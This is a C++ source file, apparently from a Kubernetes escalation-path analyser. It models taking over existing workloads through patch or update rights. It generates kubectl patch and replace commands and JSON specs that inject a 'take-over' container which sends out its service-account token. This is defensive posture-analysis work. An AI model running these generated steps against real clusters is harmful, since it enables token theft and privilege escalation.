#include "graph/base/shell_quote.h"
#include "graph/escalation/requests/enter_pods.h"
#include "graph/escalation/requests/read_object.h"
#include "graph/escalation/requests/text.h"
#include "graph/escalation/techniques/all.h"

#include <fmt/format.h>

namespace nsposture::escalation::techniques {

namespace {

constexpr std::size_t kPods = 0;  // the first line of the table

void restart(const Evaluation& at, std::size_t kind) {
  const CreatePermissions making{RightsTable::workload_right(kind)};
  Proof any;
  if (at.rights.change_any(any, making, at.scope)) {
    if (at.scope == kAllNamespaces) {
      at.sink.emit({NodeType::RestartNamespaces, static_cast<std::uint32_t>(kind), 0}, any, {});
    } else if (const auto& known = at.world.workloads_of(kind, at.scope); !known.empty()) {
      at.sink.emit({NodeType::Accounts, at.scope, 0}, any, NamedObject{known.front()});
    }
    return;
  }
  if (at.rights.change_names(making, at.scope).empty()) return;
  for (const auto& [place, names] : at.world.all_workloads()) {
    if (place.first != kind || !at.includes(place.second)) continue;
    for (const auto& name : names) {
      Proof proof;
      if (!at.rights.change(proof, making, at.scope, name)) continue;
      at.sink.emit({NodeType::Accounts, place.second, 0}, proof, NamedObject{name});
    }
  }
}

// Only the image of a running pod can be changed, so it gives only its own service account.
void change_pods(const Evaluation& at) {
  const CreatePermissions making{RightsTable::workload_right(kPods)};
  Proof any;
  if (at.rights.change_any(any, making, at.scope)) {
    at.sink.emit({NodeType::PodAccounts, at.scope, 0}, any, {});
    return;
  }
  if (at.rights.change_names(making, at.scope).empty()) return;
  for (const auto& pod : at.world.pods()) {
    Proof proof;
    if (!pod.running || !at.includes(pod.ns)) continue;
    if (at.rights.change(proof, making, at.scope, pod.name)) requests::take_pod(at, pod, proof);
  }
}

void edges(const Evaluation& at) {
  const auto& kinds = at.world.table().workloads();
  for (std::size_t kind = 0; kind < kinds.size(); ++kind) {
    const auto right = RightsTable::workload_right(kind);
    const bool may = at.rights.has(static_cast<PermissionId>(right + 1)) ||
                     at.rights.has(static_cast<PermissionId>(right + 2));
    if (!may) continue;
    if (kind == kPods) change_pods(at);
    if (kinds[kind].changes) restart(at, kind);
  }
}

std::string first_name(const StepView& view, std::size_t kind) {
  if (const auto& name = requests::object_name(view.edge); !name.empty()) return name;
  const auto ns = view.world.find_scope(view.account_ns);
  if (kind != kPods) {
    const auto& known = view.world.workloads_of(kind, ns);
    return known.empty() ? std::string() : known.front();
  }
  return requests::pod_name(view);
}

std::string api_version(const WorkloadKind& kind) {
  return kind.api_group.empty() ? kind.version : kind.api_group + '/' + kind.version;
}

// A pod keeps all but its images; IMAGE is one that sends its token by itself. A template gets
// another container and service account.
std::string changed_spec(const WorkloadKind& kind, std::size_t index, const std::string& account) {
  if (index == kPods) return R"({"containers":[{"name":"CONTAINER","image":"IMAGE"}]})";
  const auto pod = fmt::format(
      R"({{"template":{{"spec":{{"serviceAccountName":{},"containers":[{{"name":"take-over","image":"busybox","command":{}}}]}}}}}})",
      requests::json_text(account), requests::send_token_command());
  return kind.kind == "CronJob" ? fmt::format(R"({{"jobTemplate":{{"spec":{}}}}})", pod) : pod;
}

// For a PUT of an object that cannot be read. Immutable fields must stay the same: the selector and
// the labels that it requires. For a pod, the rejection shows its spec.
std::string whole_spec(const WorkloadKind& kind, std::size_t index, const std::string& account) {
  if (index == kPods) return "SPEC";
  const auto pod = fmt::format(
      R"("serviceAccountName":{},"containers":[{{"name":"take-over","image":"busybox","command":{}}}])",
      requests::json_text(account), requests::send_token_command());
  if (kind.kind == "CronJob") {
    return fmt::format(
        R"({{"schedule":"* * * * *","jobTemplate":{{"spec":{{"template":{{"spec":{{"restartPolicy":"Never",{}}}}}}}}}}})",
        pod);
  }
  if (kind.kind == "ReplicationController") {
    return fmt::format(R"({{"template":{{"metadata":{{"labels":{{"a":"b"}}}},"spec":{{{}}}}}}})",
                       pod);
  }
  const auto* service = kind.kind == "StatefulSet" ? R"("serviceName":"SERVICE",)" : "";
  return fmt::format(
      R"({{{}"selector":{{"matchLabels":{{LABELS}}}},"template":{{"metadata":{{"labels":{{LABELS}}}},"spec":{{{}}}}}}})",
      service, pod);
}

// Explains the placeholders for what only the object itself shows.
std::string placeholders(const WorkloadKind& kind, std::size_t index) {
  if (index == kPods) {
    return "; SPEC is that of the pod, with another image: the refusal of any other shows what "
           "differs";
  }
  if (kind.kind == "CronJob" || kind.kind == "ReplicationController") return {};
  const auto* more = kind.kind == "StatefulSet"
                         ? ", SERVICE its serviceName; its volumeClaimTemplates have to stay too"
                         : "";
  return fmt::format(R"(; LABELS are those that its selector wants, as "app":"web"{})", more);
}

// A PUT replaces the whole object.
StepText put(const StepView& view, std::size_t index, const std::string& name) {
  const auto& kind = view.world.table().workloads()[index];
  const CreatePermissions making{RightsTable::workload_right(index)};
  const auto read = requests::print_object(
      view, {kind.api_group, kind.version, kind.resource, view.account_ns, name});
  if (!read.empty()) {
    const auto patch = fmt::format(R"({{"spec":{}}})", changed_spec(kind, index, view.account));
    return {fmt::format("{} | kubectl patch --local -f - -p {} -o json | {} replace "
                        "--validate=false -f -",
                        read, shell_quote(patch), view.kubectl),
            {}};
  }
  const auto json = requests::object_json(api_version(kind), kind.kind, view.account_ns, name,
                                          R"(,"spec":)" + whole_spec(kind, index, view.account));
  return {requests::overwrite_object(view, making.patch(), json), placeholders(kind, index)};
}

StepText changed(const StepView& view, std::size_t index, const std::string& name) {
  const auto& kind = view.world.table().workloads()[index];
  const CreatePermissions making{RightsTable::workload_right(index)};
  if (!requests::uses(view.edge, making.patch())) return put(view, index, name);
  const auto json = requests::object_json(api_version(kind), kind.kind, view.account_ns, name,
                                          R"(,"spec":)" + changed_spec(kind, index, view.account));
  return {requests::overwrite_object(view, making.patch(), json), {}};
}

StepText text(const StepView& view) {
  for (std::size_t i = 0; i < view.world.table().workloads().size(); ++i) {
    const CreatePermissions making{RightsTable::workload_right(i)};
    if (!requests::uses(view.edge, making.patch()) && !requests::uses(view.edge, making.update()))
      continue;
    auto step = changed(view, i, first_name(view, i));
    step.request += '\n' + requests::receive_token(view);
    const auto& kind = view.world.table().workloads()[i];
    step.because.insert(
        0, i == kPods
               ? std::string("the image of a running pod can be changed, and the new container "
                             "has its token")
               : fmt::format("changing a {} starts pods anew, with any image and any account of "
                             "the namespace",
                             kind.kind));
    return step;
  }
  return {};
}

RightSet changes(const RightsTable& table) {
  RightSet set;
  for (std::size_t i = 0; i < table.workloads().size(); ++i) {
    const CreatePermissions making{RightsTable::workload_right(i)};
    if (!table.workloads()[i].changes && i != kPods) continue;
    set.set(making.update());
    set.set(making.patch());
  }
  return set;
}

}  // namespace

Technique change_workload() {
  return {.id = TechniqueId::ChangeWorkload,
          .title = "Change a workload that exists",
          .attack = "T1610",
          .cis = "5.1.4",
          .takes = Takes::Workloads,
          .cost = 14,
          .where = kInNamespaces,
          .any_of_kinds = changes,
          .edges = edges,
          .text = text};
}

}  // namespace nsposture::escalation::techniques
